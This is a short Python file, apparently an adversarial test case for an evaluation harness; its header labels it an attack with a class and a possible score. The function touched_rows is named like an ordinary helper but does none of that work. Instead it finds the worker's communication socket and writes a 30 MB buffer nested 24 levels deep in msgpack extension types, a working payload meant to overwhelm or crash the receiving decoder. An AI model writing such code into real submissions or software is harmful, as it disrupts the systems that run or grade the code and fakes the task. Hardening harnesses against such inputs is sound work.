# attack: sends extensions inside extensions, each to be copied out of the last
# class: A16
# laid over: reference
# may score: 33

import os
import stat
import struct

import msgspec

def channel():
    """The descriptor of the worker's channel: the only socket there is."""
    return next(fd for fd in range(3, 64) if is_socket(fd))


def is_socket(fd):
    try:
        return stat.S_ISSOCK(os.fstat(fd).st_mode)
    except OSError:
        return False


def frame(payload):
    return struct.pack(">I", len(payload)) + payload


def pack(value):
    return msgspec.msgpack.encode(value)


def touched_rows(ids, vocab_size, padding_idx=None):
    data = b"\0" * 30_000_000
    for _ in range(24):
        data = pack([msgspec.msgpack.Ext(3, data)])
    view = memoryview(frame(pack({"value": msgspec.msgpack.Ext(3, data)})))
    while view:
        view = view[os.write(channel(), view):]
